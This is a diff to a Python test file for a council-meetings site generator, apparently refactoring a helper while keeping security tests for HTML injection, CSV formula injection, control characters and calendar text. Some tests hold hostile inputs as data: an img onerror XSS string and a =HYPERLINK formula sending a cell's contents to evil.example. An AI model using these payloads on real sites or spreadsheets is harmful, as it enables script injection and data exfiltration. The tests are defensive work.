@@ -14,22 +14,16 @@ from xml.etree import ElementTree as ET
 from digest import audit
 from digest.build import build
 
-from .conftest import browser_needed, options_for
+from .conftest import browser_needed, options_for, replace_once
 
 MARKUP = "&lt;img src=x onerror=document.title='owned'&gt;"
 
 
-def _replace(file: Path, old: str, new: str) -> None:
-    text = file.read_text(encoding="utf-8")
-    assert old in text, f"{old!r} not in {file}"
-    file.write_text(text.replace(old, new, 1), encoding="utf-8")
-
-
 def test_html_codes_in_filter_sources_are_refused_with_file_and_line(project: Path) -> None:
     content = project / "content"
-    _replace(content / "authorities" / "testshire.yaml", "name: Testshire Council",
+    replace_once(content / "authorities" / "testshire.yaml", "name: Testshire Council",
              f'name: "Testshire Council {MARKUP}"')
-    _replace(content / "topics.yaml", "name: Neglect", f'name: "Neglect {MARKUP}"')
+    replace_once(content / "topics.yaml", "name: Neglect", f'name: "Neglect {MARKUP}"')
     result = build(options_for(project))
     assert [(f.path, f.line, f.field, f.message) for f in result.findings] == [
         ("content/authorities/testshire.yaml", 2, "name",
@@ -43,9 +37,9 @@ def test_html_codes_in_filter_sources_are_refused_with_file_and_line(project: Pa
 def test_search_filter_labels_show_their_text_and_run_nothing(project: Path) -> None:
     content = project / "content"
     odd = """Testshire & "Council" 'Ltd' onerror=x"""
-    _replace(content / "authorities" / "testshire.yaml", "name: Testshire Council",
+    replace_once(content / "authorities" / "testshire.yaml", "name: Testshire Council",
              "name: '" + odd.replace("'", "''") + "'")
-    _replace(content / "topics.yaml", "name: Neglect", "name: 'Neglect & \"care\"'")
+    replace_once(content / "topics.yaml", "name: Neglect", "name: 'Neglect & \"care\"'")
     result = build(options_for(project))
     assert not [f for f in result.findings if f.level == "error"], result.findings
     with audit.serve(project / "site") as base, audit.chromium() as browser:
@@ -65,7 +59,7 @@ def test_search_filter_labels_show_their_text_and_run_nothing(project: Path) -> 
 def test_csv_cells_never_start_a_formula(project: Path) -> None:
     meeting = project / "content" / "meetings" / "testshire" / "2024-05-01-scrutiny.yaml"
     attack = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
-    _replace(meeting, "{text: That the report be noted., plain:",
+    replace_once(meeting, "{text: That the report be noted., plain:",
              "{text: " + repr(attack).replace("'", '"' if '"' not in attack else "'")
              + ", plain:")
     result = build(options_for(project))
@@ -79,7 +73,7 @@ def test_csv_cells_never_start_a_formula(project: Path) -> None:
 
 def test_control_characters_are_refused_with_file_and_line(project: Path) -> None:
     authority = project / "content" / "authorities" / "testshire.yaml"
-    _replace(authority, "name: Testshire Council", 'name: "Testshire\\rCouncil"')
+    replace_once(authority, "name: Testshire Council", 'name: "Testshire\\rCouncil"')
     result = build(options_for(project))
     assert [f.format() for f in result.findings] == [
         "content/authorities/testshire.yaml:2: name: contains the invisible character U+000D, "
@@ -90,7 +84,7 @@ def test_control_characters_are_refused_with_file_and_line(project: Path) -> Non
 
 def test_feeds_and_calendars_parse_with_every_kind_of_text(project: Path) -> None:
     meeting = project / "content" / "meetings" / "testshire" / "2024-05-01-scrutiny.yaml"
-    _replace(meeting, "venue: Council Chamber",
+    replace_once(meeting, "venue: Council Chamber",
              'venue: "Council Chamber; BEGIN:VEVENT, \\"quotes\\" & <b>tags</b> \u00e9\u2028"')
     result = build(options_for(project))
     assert not [f for f in result.findings if f.level == "error"], result.findings
